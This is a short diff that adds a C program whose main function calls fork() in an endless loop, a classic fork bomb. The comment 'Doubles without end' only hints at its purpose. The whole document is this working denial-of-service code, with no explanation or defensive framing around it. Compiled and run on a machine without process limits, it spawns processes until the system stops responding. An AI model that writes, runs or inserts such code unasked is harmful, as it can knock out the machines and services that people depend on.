@@ -1,0 +1,5 @@
+// Doubles without end.
+#include "tell.h"
+int main() {
+    for (;;) fork();
+}
